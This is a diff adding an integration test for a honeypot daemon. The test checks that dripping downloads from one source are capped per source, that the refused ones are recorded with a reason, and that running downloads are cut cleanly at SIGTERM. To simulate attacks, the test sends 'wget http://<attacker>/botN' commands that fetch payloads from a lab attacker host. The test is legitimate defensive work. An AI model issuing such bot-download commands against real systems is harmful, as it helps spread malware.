@@ -187,10 +187,63 @@ plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
           f"threads {threads_before} before, {threads_during} during, {threads_after} after")
     assert max(during) <= max(before) + DELAY, (before, during)
     assert max(cuts) <= CAP + 2 * DELAY, cuts  # the cut, plus the follow-up's own recording
-    assert threads_after <= threads_during == threads_before
+    # the pool's threads came with the downloads, one each (download_workers of them), and
+    # stayed: none piled up
+    assert threads_after == threads_during <= threads_before + DRIPPING + 1
 
 
 def _seconds(stamp: str) -> float:
     from datetime import datetime
 
     return datetime.fromisoformat(stamp.replace("Z", "+00:00")).timestamp()
+
+
+def test_one_source_gets_its_budget_of_the_pool_the_rest_is_refused_on_the_record(
+    lab: Lab, tmp_path: Path
+) -> None:
+    """The default pool (16 workers, 64 downloads at once per source): a hundred dripping
+    downloads from one address, 36 refused at once with the reason on each attack's record and
+    counted; at SIGTERM those still running are cut and the daemon exits cleanly."""
+    from test_daemon_downloads import statistics_with
+
+    from honeytrap import background
+    from honeytrap.recorder import DRAIN_SECONDS, STATS_INTERVAL
+
+    cap = 2 * DRAIN_SECONDS  # no download ends by itself while the test looks
+    dripping = start(lab, lab.attacker, "hostile", "body", lab.attacker.ip4)
+    nfq_rules(lab.sensor)
+    ht = Honeytrap(lab, tmp_path / "ht", args=["-u", "nobody", "-g", "nogroup"])
+    ht.extra_config = 'download_allow = ["198.18.0.0/15"]'
+    ht.plugins = f"""
+plugin-httpDownload = {{ timeout = "{cap:g}" }}
+plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
+"""
+    ht.start()
+    refused = DRIPPING - background.DEFAULT_PER_SOURCE
+    try:
+        for n in range(DRIPPING):
+            url = f"http://{lab.attacker.ip4}:{dripping}/bot{n}"
+            send(lab.attacker, lab.sensor.ip4, DOWNLOAD_PORT, f"wget {url}\r\n".encode())
+        deadline = time.monotonic() + WAIT
+        while len(records(ht)) < DRIPPING:
+            assert time.monotonic() < deadline, "the attacks were not all recorded at once"
+            time.sleep(0.05)
+        stats = statistics_with(ht, f"pipeline_downloads_refused={refused}",
+                                timeout=2 * STATS_INTERVAL + 10)
+        assert stats.get("pipeline_downloads_refused") == str(refused), stats
+        stopping = time.monotonic()
+    finally:
+        assert ht.stop(timeout=WAIT + DRAIN_SECONDS) == 0
+    stopped = time.monotonic() - stopping
+    attacks = [r for r in records(ht) if not r.get("follow_up")]
+    assert len(attacks) == DRIPPING
+    reasons = [t["reason"] for r in attacks for t in r["download_attempts"]]
+    assert reasons == [f"at most {background.DEFAULT_PER_SOURCE} downloads at once per source "
+                       "in the download pool"] * refused
+    # the downloads running at SIGTERM were cut (DRAIN_SECONDS, then cancelled) and followed up
+    cut = [t["reason"] for r in records(ht) if r.get("follow_up")
+           for t in r["download_attempts"]]
+    assert cut == ["cancelled by the download pool"] * background.DEFAULT_WORKERS
+    print(f"\none source, {DRIPPING} dripping downloads: {refused} refused on the record, "
+          f"{len(cut)} cut at SIGTERM, stopped in {stopped:.1f} s")
+    assert stopped <= DRAIN_SECONDS + 10
